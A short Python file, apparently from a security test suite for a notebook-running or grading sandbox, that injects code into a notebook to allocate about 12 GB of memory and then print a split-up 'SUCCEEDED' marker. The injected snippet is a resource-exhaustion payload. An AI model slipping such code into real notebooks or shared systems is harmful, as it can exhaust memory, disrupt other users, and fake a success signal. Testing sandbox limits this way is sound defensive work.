"""Allocates 12 GB."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
held = []
for i in range(120):
    held.append(bytearray(100 << 20))
print('SUC' + 'CEEDED')
""",
    )
